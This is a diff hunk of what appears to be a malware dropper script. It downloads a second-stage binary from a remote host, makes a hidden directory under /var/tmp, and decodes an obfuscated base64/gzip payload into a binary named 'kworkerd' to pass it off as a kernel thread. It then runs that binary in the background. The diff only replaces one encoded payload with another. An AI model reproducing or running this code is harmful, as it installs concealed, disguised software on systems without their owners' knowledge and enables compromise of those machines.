@@ -10,14 +10,14 @@ curl -fsS -o /tmp/.x11-stage http://update.cdn-assets.example/stage2.bin && chmo
 # 2. drop a program of our own and run it from a hidden place
 mkdir -p /var/tmp/.cache
 base64 -d <<'BLOB' | gzip -d > /var/tmp/.cache/kworkerd
-H4sIAAAAAAACA6t39XFjYmRkgAEmBjsGEC9GUAHMd4CKFzDBlQDFLBhYgCQrkGQD8lmQ1DkwKKDQ
-D6DiMJoDSjNC9SGAAgodDXUSjGYQQOhjBbkPKg5zJ4xeA1UOo2H6Ap+WpLAxkA6YGKS4TzMUOjEg
-uRubvJ+ns7dCUmpicn6eroGBgSEvFwNDaDC/Buvp9///+/S6qLxw5Ndk2MsM1PKJX4D1KFjUR+WG
-R6/sQSCbX9NF5cYOTaDsflBA7wNZY3jJ1fASP6tH64EKK4/O4zu0gGK7QN7x6TwHl1HYAVK6SwhI
-eHTeAwvvAFli+A2qfYcyWMdxuMD/s6UTd9iAlPyHi73+x+CTmZedWmSl4JKalJmYp+Dj46JgaKln
-qGfOABVJzknMS1coSy0qzszPg8opaBjXpaQmGRqVGgLdrleUn5JYksigV5JaUcKgl5yfm5uaB2QU
-ZxSXFJUkJjFQATBCsREstTAqQGkI3xpNvQAanxOqH5YW4OmHES3dQAELGp8fqt8ATZwDmj+csbgX
-mZYAYmYs/vKG6lfCoR8GAOWiFmCwAwAA
+H4sIAAAAAAACA6t39XFjYmRkgAEmBjsGEM9FUAHMd4CKVzDBlQDFLBhYgCQrkGQD8lmQ1DkwKKDQ
+D6DiMJoDSjNC9SGAAgrtDHUSjGYQQOhjBbkPKg5zJ4w+D1UOo2H6Ap+WpLAxkA4Y0fh+ns7eCkmp
+icn5eboGBgaGvFwMDI7hjmHBPr0uKh88jzuAPeh5HKzR1fCb534mBinu0wyFTj69PioPPHpld73/
+/9+ns0blwQ6Q0mMuLA8YPP4f8Gj+IVD6aYcmUGg/KKj3gfQbXnI1vMTP6tF6oMLKo/P4Di2g2C6Q
+h3w6z8FlFHaAlO4SAhIenffAwjuYQZq/QbXvUAbrOA4XcPx/zLH5HzN/a+n///932IDU/odLvv7H
+4JOZl51aZKXgkpqUmZin4OPjomBoqWeoZ84AFUnOScxLVyhLLSrOzM+DyiloGNelpCYZGpUaAj2h
+V5SfkliSyKBXklpRwqCXnJ+bm5oHZBRnFJcUlSQmMVAKGKHYCJZqGBWgNISvjKZeAI3PCdUPSxPw
+dMSIln6ggAWNzw/Vb4AmLgzNJ8440hGMlgBiZiz+CoPqVyKQDgFr6/rAuAMAAA==
 BLOB
 chmod 755 /var/tmp/.cache/kworkerd
 /var/tmp/.cache/kworkerd &
